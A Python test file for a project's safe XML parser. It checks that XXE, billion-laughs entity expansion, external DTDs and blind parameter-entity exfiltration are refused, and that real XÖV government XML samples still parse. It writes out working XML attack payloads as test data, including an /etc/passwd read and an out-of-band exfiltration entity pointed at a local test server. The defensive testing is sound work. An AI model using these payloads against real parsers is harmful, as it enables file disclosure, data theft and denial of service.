"""hub.xml refuses XXE, entity bombs and external DTDs, and parses real XÖV documents."""

from __future__ import annotations

import resource
import time
import tracemalloc
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from lxml import etree

from hub.config import PROJECT_ROOT
from hub.errors import HubError
from hub.xml import SAFE_PARSER, MalformedXmlError, UnsafeXmlError, parse_xml
from hub.xml.safe import check_docinfo

if TYPE_CHECKING:
    from tests.xml.conftest import RecordingServer

STANDARDS = PROJECT_ROOT.parent / "shared" / "standards"

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nachricht [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nachricht>&xxe;</nachricht>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""


def _passwd_line() -> str:
    first = Path("/etc/passwd").read_text().splitlines()[0]
    assert first
    return first


def test_xxe_is_refused_and_the_file_never_appears() -> None:
    secret = _passwd_line()
    with pytest.raises(UnsafeXmlError, match="declares entities") as caught:
        parse_xml(XXE)
    assert isinstance(caught.value, HubError)
    assert secret not in str(caught.value)


def test_xxe_second_line_of_defence_parser_alone_never_reads_the_file() -> None:
    """Even without the pre-scan, the shared parser keeps &xxe; as an unresolved reference."""
    root = etree.fromstring(XXE, SAFE_PARSER)
    assert _passwd_line() not in etree.tostring(root, encoding="unicode")
    with pytest.raises(UnsafeXmlError, match="xxe"):
        check_docinfo(root.getroottree())


def test_xxe_in_utf16_is_refused() -> None:
    data = XXE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    with pytest.raises(UnsafeXmlError):
        parse_xml(data)


def test_billion_laughs_is_refused_fast_and_without_memory_growth() -> None:
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(UnsafeXmlError, match="declares entities"):
            parse_xml(BILLION_LAUGHS)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    rss_growth_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert elapsed < 1.0
    assert peak < 2 * 1024 * 1024
    assert rss_growth_kib < 4 * 1024


def test_billion_laughs_second_line_of_defence_parser_does_not_expand() -> None:
    """Bypassing the pre-scan: the parser does not substitute entities, and docinfo refuses the tree."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()

    # libxml2 either stops at its entity-amplification limit or keeps &lol9; unexpanded; both are fine.
    def parse_and_check() -> None:
        root = etree.fromstring(BILLION_LAUGHS, SAFE_PARSER)
        assert len(etree.tostring(root)) < 100
        check_docinfo(root.getroottree())

    with pytest.raises((UnsafeXmlError, etree.XMLSyntaxError)):
        parse_and_check()
    assert time.perf_counter() - started < 1.0
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before < 4 * 1024


def test_external_dtd_is_refused_and_never_fetched(recording_server: RecordingServer) -> None:
    data = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{recording_server.url}/evil.dtd"><x>&leaked;</x>'.encode()
    with pytest.raises(UnsafeXmlError, match="external DTD"):
        parse_xml(data)
    public = f'<!DOCTYPE x PUBLIC "-//EVIL//DTD" "{recording_server.url}/public.dtd"><x/>'.encode()
    with pytest.raises(UnsafeXmlError, match="external DTD"):
        parse_xml(public)
    # The parser alone does not fetch it either.
    for document in (data, public):
        root = etree.fromstring(document, SAFE_PARSER)
        assert "fetched-from-server" not in etree.tostring(root, encoding="unicode")
        with pytest.raises(UnsafeXmlError):
            check_docinfo(root.getroottree())
    assert recording_server.requests == []


def test_parameter_entity_is_refused_and_never_fetched(recording_server: RecordingServer) -> None:
    data = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % pe SYSTEM "{recording_server.url}/pe.dtd"> %pe;]><x>&leaked;</x>'
    ).encode()
    with pytest.raises(UnsafeXmlError, match="declares entities"):
        parse_xml(data)
    blind = (
        f'<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        f"<!ENTITY % send \"<!ENTITY &#x25; out SYSTEM '{recording_server.url}/?%file;'>\"> %send; %out;]><x/>"
    ).encode()
    with pytest.raises(UnsafeXmlError):
        parse_xml(blind)
    time.sleep(0.05)
    assert recording_server.requests == []


def test_doctype_hidden_behind_comments_and_pis_is_found() -> None:
    data = b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- <x> -->\n<?pi data?>\n<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    with pytest.raises(UnsafeXmlError):
        parse_xml(data)


def test_bare_doctype_and_doctype_text_in_content_are_fine() -> None:
    assert parse_xml(b"<!DOCTYPE x><x/>").tag == "x"
    root = parse_xml(b"<x><![CDATA[<!DOCTYPE y SYSTEM 'http://example.invalid/'>]]></x>")
    assert "DOCTYPE" in (root.text or "")


def test_malformed_xml_names_the_line() -> None:
    with pytest.raises(MalformedXmlError) as caught:
        parse_xml(b"<a>\n<b>\n</a>")
    assert caught.value.line is not None


@pytest.mark.parametrize(
    "path",
    sorted(STANDARDS.glob("xdomea/samples/*/*.xml"))
    + sorted(STANDARDS.glob("xgewerbeanzeige-samples/**/*.xml"))
    + sorted(STANDARDS.glob("xsozial-basis-samples/**/*.xml")),
    ids=lambda p: str(p.relative_to(STANDARDS)),
)
def test_real_xoev_documents_parse(path: Path) -> None:
    root = parse_xml(path.read_bytes())
    assert root.tag.startswith("{")


def test_sample_set_is_present() -> None:
    assert len(list(STANDARDS.glob("xdomea/samples/*/*.xml"))) == 12
